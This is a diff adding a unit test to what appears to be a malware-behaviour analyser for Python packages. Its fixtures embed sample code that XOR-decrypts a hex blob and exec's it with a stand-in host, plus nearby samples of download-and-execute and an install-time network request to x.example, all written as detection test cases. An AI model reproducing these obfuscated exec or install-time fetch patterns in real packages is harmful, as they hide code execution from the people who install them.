@@ -471,6 +471,22 @@ TEST(Behaviour, DownloadWriteAndStartByNameInOneFunction) {
                   "    subprocess.Popen(cmd)\n", "download-exec");
 }
 
+TEST(Behaviour, CodeDecryptedThroughSeveralStepsIsDecoded) {
+  // hex -> XOR with a key given by the caller -> text -> exec: decoded code
+  // even though no single assignment holds both the decoder and exec.
+  const char kXor[] =
+      "def start(key_hex):\n    blob = bytearray.fromhex('0a1b2c3d4e5f60718293a4b5c6d7e8f9')\n"
+      "    key = bytearray.fromhex(key_hex)\n"
+      "    out = bytearray([blob[i] ^ key[i % 6] for i in range(len(blob))])\n"
+      "    code = out.decode('ascii').replace('HOST', 'x.example')\n    exec(code)\n";
+  ExpectFinding(kXor, "exec-dynamic", Severity::kHigh, Phase::kRuntime);
+  // Code merely assembled from plain text stays weak outside load time.
+  auto fs = Analyze("def f(name):\n    src = 'print(' + repr(name) + ')'\n    code = src.strip()\n"
+                    "    exec(code)\n", Phase::kRuntime);
+  const Finding* f = Find(fs, "exec-dynamic");
+  EXPECT_TRUE(f == nullptr || f->severity < Severity::kHigh) << Rules(fs);
+}
+
 TEST(Behaviour, NetworkAtInstall) {
   ExpectFinding("from setuptools import setup\nimport requests\nsetup(name='x')\n"
                 "requests.get('http://x.example/?d=1')\n",
